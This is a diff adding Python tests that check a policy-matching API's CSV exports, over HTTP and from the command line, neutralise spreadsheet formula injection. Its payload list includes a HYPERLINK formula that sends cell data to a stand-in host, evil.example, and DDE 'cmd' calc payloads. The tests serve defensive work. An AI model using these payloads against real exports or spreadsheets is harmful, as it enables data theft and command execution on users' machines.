@@ -117,3 +117,71 @@ def test_a_policy_past_its_extraction_budget_is_refused_and_the_worker_replaced(
             assert client.post("/v1/policies", json=ok, headers=auth(keys["admin"])).status_code == 201
     finally:
         tight.extraction.close() if tight.extraction else None
+
+
+# --- safe CSV exports ---------------------------------------------------------------------------
+
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+]
+
+
+def _csv_cells(text: str) -> list[list[str]]:
+    import csv
+    import io
+
+    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
+
+
+def test_target_csv_has_no_formula_cell(client, services, keys):
+    from api.exports import is_formula_cell
+
+    admin, push = auth(keys["admin"]), auth(keys["push"])
+    for n, name in enumerate(HOSTILE_NAMES):
+        body = {"id": f"H18-csv-{n}", "name": name, "region_code": "331002", "industry_code": "C3670"}
+        response = client.post("/v1/enterprises", json=body, headers=admin)
+        assert response.status_code == 201, response.text
+    with client.stream(
+        "GET",
+        "/v1/policies/jj-2024-02/targets.csv",
+        params={"levels": "eligible,need_info,near_miss,ineligible"},
+        headers=push,
+    ) as response:
+        assert response.status_code == 200
+        text = "".join(response.iter_text())
+    rows = _csv_cells(text)
+    names = {row[0]: row[1] for row in rows[1:]}
+    for n in range(len(HOSTILE_NAMES)):
+        shown = names[f"H18-csv-{n}"]
+        assert shown.startswith("'"), shown  # neutralised, and the text is kept after the quote
+    # The leading tab was stripped on store: "=1+1" must still not be a live formula.
+    assert names["H18-csv-4"] == "'=1+1"
+    assert [cell for row in rows for cell in row if is_formula_cell(cell)] == []
+
+
+def test_cli_csv_export_is_safe_too(client, services, keys, tmp_path):
+    import argparse
+
+    from api.commands.match import _targets_csv
+    from api.exports import is_formula_cell
+
+    admin = auth(keys["admin"])
+    body = {"id": "H18-cli", "name": "=HYPERLINK(1)", "region_code": "331002"}
+    assert client.post("/v1/enterprises", json=body, headers=admin).status_code in (200, 201)
+    out = tmp_path / "targets.csv"
+    args = argparse.Namespace(
+        policy_id="jj-2024-02",
+        item=None,
+        levels=["eligible", "need_info", "near_miss", "ineligible"],
+        csv=str(out),
+    )
+    assert _targets_csv(services.matcher, args) == 0
+    rows = _csv_cells(out.read_text(encoding="utf-8"))
+    assert ["H18-cli", "'=HYPERLINK(1)"] == rows[[r[0] for r in rows].index("H18-cli")][:2]
+    assert [cell for row in rows for cell in row if is_formula_cell(cell)] == []
